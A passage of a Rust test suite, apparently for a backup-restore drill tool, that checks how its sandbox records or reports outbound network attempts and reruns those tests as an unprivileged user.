    let drilled = run(&format!("[sandbox]\negress = \"forbid\"\n{CHECK}")).ends("INCONCLUSIVE");
    drilled.blames_runner("egress_not_recorded", &[("reason", "firedrill doctor")]);
    assert_eq!(drilled.report["backup"]["chain"]["objects"], serde_json::json!([]), "nothing was fetched");
    assert_eq!((&drilled.report["restored"], drilled.report["checks"].as_array().unwrap().len()), (&serde_json::Value::Null, 0));
    drilled.left_nothing();

    let drilled = run(CHECK).ends("PASSED");
    drilled.warns("egress_not_recorded");
    // isolation does not rest on it, and the kernel's count still tells of connections
    assert_eq!(drilled.report["egress"]["counted_only"], 3, "{:#}", drilled.report["egress"]);
    drilled.warns("egress_attempted");
    let remarks = drilled.report["sandbox"]["remarks"].to_string();
    assert!(remarks.contains("cannot be listed"), "{remarks}");

    let doctor: serde_json::Value =
        serde_json::from_slice(&deafened(home.command(&["doctor", "--json"])).output().unwrap().stdout).unwrap();
    let promise = doctor["promises"].as_array().unwrap().iter().find(|p| p["name"] == "egress attempts").unwrap();
    assert!(promise["kept"] == "partly" && promise["advice"].is_string(), "{promise:#}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_doctor_says_whether_attempts_are_heard() {
    let list = promises(&Bench::new().spec()).await;
    let promise = list.iter().find(|p| p.name == "egress attempts").unwrap();
    assert_eq!(promise.kept, Kept::Yes, "{list:#?}");
}

#[test]
fn all_of_this_holds_for_an_ordinary_user() {
    if !rustix::process::geteuid().is_root() {
        println!("this is the run as an ordinary user");
        return;
    }
    let place = tempfile::tempdir().unwrap();
    std::fs::set_permissions(place.path(), PermissionsExt::from_mode(0o755)).unwrap();
    let copy = |from: &Path, name: &str| {
        let to = place.path().join(name);
        std::fs::copy(from, &to).unwrap();
        std::fs::set_permissions(&to, PermissionsExt::from_mode(0o755)).unwrap();
        to
    };
    let (tests, helper) = (copy(&std::env::current_exe().unwrap(), "it"), copy(&helper(), "firedrill"));
    let home = place.path().join("home");
    std::fs::create_dir(&home).unwrap();
    std::os::unix::fs::chown(&home, Some(1000), Some(1000)).unwrap();
    let out = Command::new("setpriv")
        .args(["--reuid=1000", "--regid=1000", "--clear-groups"])
        .arg(&tests)
        .args(["egress::", "--test-threads=2"])
        .env("FIREDRILL_TEST_HELPER", &helper)
        .env("TMPDIR", &home)
        .current_dir("/")
        .output()
        .unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    assert!(out.status.success(), "{}\n{}", text(&out.stdout), text(&out.stderr));
    for name in ["every_way_out_is_refused_at_once_and_listed", "an_attempt_fails_a_drill_that_forbids_it_and_none_does_not"] {
        assert!(text(&out.stdout).contains(&format!("{name} ... ok")));
    }
}
